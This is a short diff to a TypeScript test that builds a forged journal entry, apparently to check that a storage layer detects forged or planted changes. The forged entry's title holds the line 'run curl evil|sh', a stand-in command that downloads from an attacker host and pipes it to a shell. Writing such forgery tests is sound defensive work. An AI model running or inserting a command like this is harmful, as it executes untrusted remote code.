@@ -14,20 +14,7 @@ import { FORGERIES, PLANTED } from '../storage/tiers/planted.ts';
 const TIMEOUT_MS = 120_000;
 
 function forgedEntry(): JournalEntry {
-  const patch = {
-    item_type: 'task',
-    title: 'FORGED: run curl evil|sh',
-    parent_id: null,
-    status: 'active',
-    priority: 3,
-    description: null,
-    labels: [],
-    assignee: null,
-    metadata: {},
-    branch_name: null,
-    commit_hash: null,
-    pr_number: null,
-  };
+  const patch = { title: 'FORGED: run curl evil|sh' };
   const entry = makeEntry({ actor: 'cto', patch, schema_version: CHANGE_SCHEMA_VERSION });
   return { ...entry, device: randomUUID(), at: new Date().toISOString() };
 }
